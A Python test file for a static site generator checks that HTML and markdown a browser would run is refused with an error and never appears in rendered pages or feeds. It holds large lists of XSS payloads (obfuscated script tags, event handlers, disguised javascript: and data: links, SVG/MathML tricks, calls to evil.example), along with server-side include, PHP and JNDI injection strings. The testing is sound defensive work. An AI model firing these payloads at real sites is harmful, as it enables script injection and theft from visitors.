"""Raw HTML that a browser would run, in every disguise: refused with its line, and harmless even where it is rendered.

The lists of tests/unit/bodies/test_payloads.py and the further tricks below stand in whole sites here: in a post, an
association, an activity, a page and union.md, alone and inside lists, quotes, tables, headings, notes, links, pictures
and definitions. All of them are rendered although the errors would stop any build: the pages and feeds hold nothing
that runs.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from associations.edition import Edition
from associations.output import files
from tests.hostile.oracle import SITEURL, dangers
from tests.support.sites import activity, article, association, page, prepared, small_site, union
from tests.unit.bodies.test_payloads import INERT, LINK, SCRIPT

# Each carries something that a browser runs or fetches.
REFUSED = [
    # one text for many places: attribute, element, comment, script
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "<sVg/<sVg/oNloAd=alert(1)//>",
    "'\"></textarea></title></style></script><script>alert(1)</script>",
    # broken up or spelt oddly
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<SCRIPT/SRC="https://evil.example/x.js">',
    "<script src=//evil.example/x>",
    "<script>\n\nalert(1)\n\n</script>",
    "<p>a\n\n<script>alert(1)</script>\n\n</p>",
    "<b><script>alert(1)</script></b>",
    "<div\nonclick=alert(1)\n>x</div>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    '<img src=x onerror="&#0000106&#0000097&#0000118">',
    "<img/src=x/onerror=alert(1)>",
    "<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<q onpointerenter=alert(1)>x</q>",
    "<li onwheel=alert(1)>x",
    "<time onanimationstart=alert(1)>x</time>",
    "<h2 oncopy=alert(1)>x</h2>",
    # addresses in disguise
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href='java&#0000010;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='\x0bjavascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#x3a;alert(1)'>x</a>",
    "<a href='javascript&Tab;:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='java\u00adscript:alert(1)'>x</a>",
    "<a href='\u202ejavascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='blob:https://hoi.example/x'>x</a>",
    "<a href='filesystem:https://hoi.example/x'>x</a>",
    "<a href='intent://x#Intent;end'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='data&colon;text/html,x'>x</a>",
    "<a href='livescript:x'>x</a>",
    "<a href='mocha:x'>x</a>",
    "<a href='VBSCRIPT:x'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\/evil.example'>x</a>",
    "<a href='/&#9;/evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='http:/\\evil.example'>x</a>",
    "<img src='https://evil.example/pixel.png' alt='x'>",
    "<img src='//evil.example/pixel.png' alt='x'>",
    "<img srcset='https://evil.example/x 1x' src='data:image/png,x' alt='x'>",
    "[x](java\\script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[x](javascript://%0aalert(1))",
    '[x](JAVASCRIPT&#58;alert(1) "title")',
    "[x]( \x01javascript:alert(1))",
    "[x](javascript&amp;colon;alert(1))",
    '![x](javascript:alert(1) "Ảnh: y")',
    "[![x](data:text/html,y)](vbscript:z)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <data:text/html,y> 'z'\n\n![x]",
    "*[x]: y\n\n[x](javascript:alert(1))",
    # what embeds, sends, takes over the page
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<iframe\nsrc=https://evil.example>",
    "<frameset onload=alert(1)>",
    "<object data='data:text/html,x' type='text/html'></object>",
    "<object classid='clsid:ae24fdae-03c6-11d1-8b76-0080c744f389'><param name=url value='javascript:x'></object>",
    "<embed src='/files/a.pdf'>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=q></form>",
    "<form id=x></form><button form=x formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<base href=//evil.example>",
    "<BASE TARGET=_parent HREF='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "<META HTTP-EQUIV='refresh' CONTENT='0; URL=//evil.example'>",
    "<meta http-equiv='Set-Cookie' content='a=<script>alert(1)</script>'>",
    "<meta http-equiv='Content-Security-Policy' content=\"script-src *\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<link rel=manifest href=/x>",
    "<portal src=https://evil.example></portal>",
    "<template><iframe src=//evil.example></iframe></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    # style that fetches or runs
    '<p style="background:url(https://evil.example/x)">x</p>',
    "<p style='background-image: u\\72l(//evil.example)'>x</p>",
    "<p style='xss:expr/**/ession(alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<ul style=\"list-style-image:url('javascript:alert(1)')\"><li>x</ul>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>",
    "<style>\n\n*{background:url(//evil.example)}\n\n</style>",
    # SVG and MathML, which have other rules for what is text
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><desc><iframe src=//evil.example></desc></svg>",
    "<svg><title><script>alert(1)</script></title></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    '<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style>'
    "<img src='#' onerror='alert(1)'>\">",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    # text that ends where it should not
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript><img src=x onerror=alert(1)>',
    "<plaintext><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><script>alert(1)</script>",
    "<![endif]--><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<![CDATA[<script>]]><script>alert(1)</script>",
    "</p></div></article></main></body></html><script>alert(1)</script>",
    "<table><tr><td><script>alert(1)</script></table>",
    "<table><caption><svg onload=alert(1)></caption></table>",
    "<table><style>@import'//evil.example'</style></table>",
    "<xml id=i><x><c><![CDATA[<img src=javas]]><![CDATA[cript:alert(1)>]]></c></x></xml><script>alert(1)</script>",
    "<bgsound src='javascript:alert(1)'>",
    "<img dynsrc='javascript:alert(1)' src=x alt=x>",
    "<img lowsrc='javascript:alert(1)' src=x alt=x>",
    "<body background='javascript:alert(1)'>",
    "<div background='javascript:alert(1)'>x</div>",
    "<layer src=//evil.example></layer>",
    "<audio controls onplay=alert(1)><source src=x></audio>",
    "<video poster='javascript:alert(1)'></video>",
    "<area href='javascript:alert(1)'>",
    "<map name=x><area href='data:text/html,x'></map>",
]
# Harmless as it stands: text, or gone with a warning; it must not become anything.
HARMLESS = [
    "<!--#exec cmd='/bin/cat /etc/passwd'-->",
    "<!--#include virtual='/../secret'-->",
    "<esi:include src='//evil.example'/>",
    "<!-- nothing closes this <b>x</b>",
    "<script\x0csrc=//evil.example/x></script>",
    "<IMG SRC=x ONERROR=alert(1)//",
    "<b onmouseover=alert(1)",
    "<a href='https:&#10;//evil.example' href='/'>x</a>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<svg><image href=https://evil.example/x></svg>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">x</p></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">x</p>',
    '<title><p title="</title><img src=x onerror=alert(1)>">x</p>',
    '<noembed><p title="</noembed><script>alert(1)</script>">',
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<t:set attributename=innerHTML to='<script defer>alert(1)</script>'>",
    "<!-- nothing -- closes -> this",
    "<!- x -->",
    "<![CDATA[ x",
    "<?php system('id')",
    "<%= system('id') %>",
    "${jndi:ldap://evil.example/x}",
    "{{ 7*7 }} {% include 'x' %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&NotExisting;<&>",
    "<a id=documentElement name=body>x</a>",
    "<a class='skip-link footnote-ref' id='noi-dung'>x</a>",
    "<div class='masthead' role='alert' aria-live='assertive' tabindex='1'>x</div>",
    "<span lang='\"onmouseover=alert(1) x=\"'>x</span>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<ol start='1 onclick=alert(1)'><li>x</ol>",
    "<td colspan='99999999'>x",
    "<x-y z=1>x</x-y>",
    '![" onerror="alert(1)](images/a.png "\\" onload=\\"alert(1)")',
    "# </h1><script",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 \x02amp\x03",
    'ref:0 ="ref:0" <b title=\'="ref:0"\'>x</b>',
]
PAYLOADS = list(dict.fromkeys([*SCRIPT, *LINK, *REFUSED, *INERT, *HARMLESS]))


def everywhere(payload: str) -> str:
    """A body with the payload alone and inside every kind of block."""
    inline = payload.replace("\n", " ")
    return "\n\n".join(
        (
            payload,
            f"Chữ {inline} chữ",
            f"> {inline}",
            f"- {inline}\n- x",
            f"1. x\n2. {inline}",
            f"a | b\n--|--\n{inline} | c",
            f"## {inline}",
            f"*{inline}* **{inline}**",
            f"[{inline}](https://a.example/)",
            f'[x](https://a.example/ "{inline}")',
            f"![{inline}](images/a.png)",
            f'![x](images/a.png "{inline}")',
            f"tên\n: {inline}",
            f"<div>\n{payload}\n</div>",
            f"<b>{inline}</b>",
            f"x[^n]\n\n[^n]: {inline}",
            f"KH\n\n*[KH]: {inline}",
            f"[!hoi-mot] {inline}",
        )
    )


@pytest.fixture(scope="module")
def edition(tmp_path_factory: pytest.TempPathFactory) -> Edition:
    """One site with each payload in a post of its own."""
    posts: dict[str, str | bytes] = {
        f"news/2022/p{n}.md": article("Bài", "2022-08-31", everywhere(payload)) for n, payload in enumerate(PAYLOADS)
    }
    content = small_site({"images/a.png": b"x", **posts})
    return prepared(tmp_path_factory.mktemp("site"), content, publish=True, siteurl=SITEURL)


@pytest.fixture(scope="module")
def rendered(edition: Edition) -> dict[str, bytes]:
    """All its files, although its errors would stop a build."""
    return {path: data for path, data in files(edition) if isinstance(data, bytes)}


@pytest.mark.parametrize("payload", [*SCRIPT, *LINK, *REFUSED])
def test_what_would_run_is_refused(edition: Edition, payload: str) -> None:
    """An error in the file that has it, on a line of its body."""
    path = f"news/2022/p{PAYLOADS.index(payload)}.md"
    found = [p for p in edition.problems if p.source == path and p.is_error]
    last = article("Bài", "2022-08-31", everywhere(payload)).count("\n") + 1
    assert found and all(p.field == "body" and 8 <= p.line <= last for p in found)


@pytest.mark.parametrize("number", range(len(PAYLOADS)), ids=lambda number: repr(PAYLOADS[number])[:60])
def test_nothing_of_it_is_on_the_page(rendered: dict[str, bytes], number: int) -> None:
    """The page of the post, as two parsers read it, holds what the theme and the allow-list write, and nothing else."""
    path = f"tin/2022/p{number}/index.html"
    assert dangers({path: rendered[path]}) == []


def test_nothing_of_it_is_in_lists_and_feeds(rendered: dict[str, bytes]) -> None:
    """Every file but the posts' own pages."""
    assert dangers({path: data for path, data in rendered.items() if not path.startswith("tin/2022/p")}) == []


def test_no_order_to_a_server_is_in_any_page(rendered: dict[str, bytes]) -> None:
    """Server side includes, PHP, edge side includes."""
    for path, data in rendered.items():
        if path.endswith(".html"):
            assert not any(order in data for order in (b"<!--#", b"<?", b"<%", b"<esi:")), path


def test_every_kind_of_body_is_read_in_the_same_way(tmp_path: Path) -> None:
    """Not only posts: an association, an activity, a page, union.md."""
    body = "\n\n".join(PAYLOADS)
    content = small_site(
        {
            "images/a.png": b"x",
            "union.md": union(body),
            "associations/hoi-mot.md": association("Hội Một", body),
            "activities/tap-huan.md": activity("Tập huấn", body),
            "pages/trang-rieng.md": page("Trang", body),
            "documents/1-ct.md": page("Chỉ thị", body, kind="Chỉ thị"),
        }
    )
    edition = prepared(tmp_path, content, publish=True, siteurl=SITEURL)
    assert {p.source for p in edition.problems if p.rule == "script-in-html"} == set(content) - {
        *("images/a.png", "associations/hoi-hai.md", "activities/hoi-thao.md")
    }
    assert dangers({path: data for path, data in files(edition) if isinstance(data, bytes)}) == []
